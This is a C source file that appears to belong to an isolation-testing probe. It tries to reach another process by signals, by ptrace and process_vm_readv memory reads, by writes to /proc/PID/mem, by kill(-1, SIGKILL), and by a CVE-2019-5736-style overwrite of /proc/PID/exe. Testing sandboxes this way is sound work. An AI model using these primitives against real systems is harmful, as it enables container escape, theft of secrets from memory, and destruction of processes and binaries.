/* Tries ways out by another process: signals, its memory, its program. */
#define _GNU_SOURCE
#include "probe.h"

#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { SECRET_MAX = 64, VICTIM_SECONDS = 60, PAUSE_NS = 5000000, PATIENCE = 1000 };
static char secret[SECRET_MAX];

static void *address_of(const char *text)
{
	return (void *)strtoul(text, NULL, 16);
}

/* SECRET: says its PID and where the secret is, and waits for its end; `signalled` when SIGUSR1 comes. */
int be_victim(int argc, char **argv)
{
	struct timespec limit = { .tv_sec = VICTIM_SECONDS };
	sigset_t set;
	int got;

	(void)argc;
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	snprintf(secret, sizeof(secret), "%s", argv[0]);
	sigemptyset(&set);
	sigaddset(&set, SIGUSR1);
	sigprocmask(SIG_BLOCK, &set, NULL);
	printf("victim %d %p\n", getpid(), (void *)secret);
	while ((got = sigtimedwait(&set, NULL, &limit)) < 0 && errno == EINTR)
		; /* signal(7): being stopped and continued ends it */
	if (got == SIGUSR1)
		printf("signalled; secret %s\n", secret);
	return REACHED;
}

int signal_one(int argc, char **argv)
{
	(void)argc;
	if (kill(atoi(argv[0]), SIGUSR1))
		return refused("kill");
	return reached("signalled");
}

/* SIGKILL to everything. NAMESPACE: the machine's own PID namespace, in which this is refused without trying. */
int signal_all(int argc, char **argv)
{
	char own[64] = "";

	(void)argc;
	if (readlink("/proc/self/ns/pid", own, sizeof(own) - 1) <= 0 || strncmp(argv[0], "pid:[", 5) || !strcmp(own, argv[0]))
		return USAGE;
	if (kill(-1, SIGKILL))
		return refused("kill");
	return reached("signalled");
}

/* PID ADDRESS: attaches, reads what is there, and lets go. */
int trace(int argc, char **argv)
{
	pid_t pid = atoi(argv[0]);
	char text[SECRET_MAX + 1] = "";

	(void)argc;
	if (ptrace(PTRACE_ATTACH, pid, 0, 0))
		return refused("attach");
	waitpid(pid, NULL, __WALL);
	for (int i = 0; i < SECRET_MAX && !memchr(text, 0, (size_t)i); i += (int)sizeof(long)) {
		long word;

		errno = 0;
		word = ptrace(PTRACE_PEEKDATA, pid, (char *)address_of(argv[1]) + i, 0);
		if (errno)
			break;
		memcpy(text + i, &word, sizeof(word));
	}
	ptrace(PTRACE_DETACH, pid, 0, 0);
	return reached("attached; %s", text);
}

int read_memory(int argc, char **argv)
{
	char text[SECRET_MAX + 1] = "";
	struct iovec to = { text, SECRET_MAX }, from = { address_of(argv[1]), SECRET_MAX };

	(void)argc;
	if (process_vm_readv(atoi(argv[0]), &to, 1, &from, 1, 0) < 0)
		return refused("process_vm_readv");
	return reached("%s", text);
}

/* PID ADDRESS, or PID `open`, which writes nothing: /proc/PID/mem. */
int write_memory(int argc, char **argv)
{
	static const char text[] = "overwritten";
	char path[PATH_MAX];
	int fd;

	(void)argc;
	snprintf(path, sizeof(path), "/proc/%s/mem", argv[0]);
	fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd < 0)
		return refused("open %s", path);
	if (!strcmp(argv[1], "open"))
		return reached("opened");
	if (pwrite(fd, text, sizeof(text), (off_t)(unsigned long)address_of(argv[1])) < 0)
		return refused("write");
	return reached("written");
}

static int open_exe(const char *pid)
{
	char path[PATH_MAX];

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	return open(path, O_RDONLY | O_CLOEXEC);
}

/* PID: its program, open, and its bytes counted. Then for writing, without writing. */
int open_program(int argc, char **argv)
{
	char path[PATH_MAX];
	int fd = open_exe(argv[0]), again;

	(void)argc;
	if (fd < 0)
		return refused("open");
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	again = open(path, O_WRONLY | O_CLOEXEC);
	return reached("%ld bytes, for writing: %s", (long)lseek(fd, 0, SEEK_END), again < 0 ? strerror(errno) : "yes");
}

/* PID: CVE-2019-5736. The program is held open, and overwritten when nothing runs it any more. */
int overwrite_program(int argc, char **argv)
{
	struct timespec pause = { .tv_nsec = PAUSE_NS };
	char path[PATH_MAX];
	int fd = open_exe(argv[0]);

	(void)argc;
	if (fd < 0)
		return refused("open");
	printf("held\n");
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (int i = 0; i < PATIENCE; i++) {
		int again = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);

		if (again >= 0 && write(again, "overwritten", 11) == 11)
			return reached("overwritten");
		if (errno != ETXTBSY)
			break;
		nanosleep(&pause, NULL);
	}
	return refused("overwrite");
}
